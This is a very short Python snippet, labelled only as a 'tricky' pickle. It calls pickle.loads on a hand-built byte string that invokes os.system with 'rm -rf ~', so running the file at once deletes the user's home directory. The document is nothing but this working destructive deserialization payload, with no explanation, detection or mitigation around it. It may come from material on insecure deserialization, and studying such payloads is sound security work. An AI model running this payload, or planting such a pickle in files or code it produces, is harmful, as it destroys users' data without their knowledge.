# tricky: a pickle that starts a command
import pickle
pickle.loads(b"cos\nsystem\n(S'rm -rf ~'\ntR.")
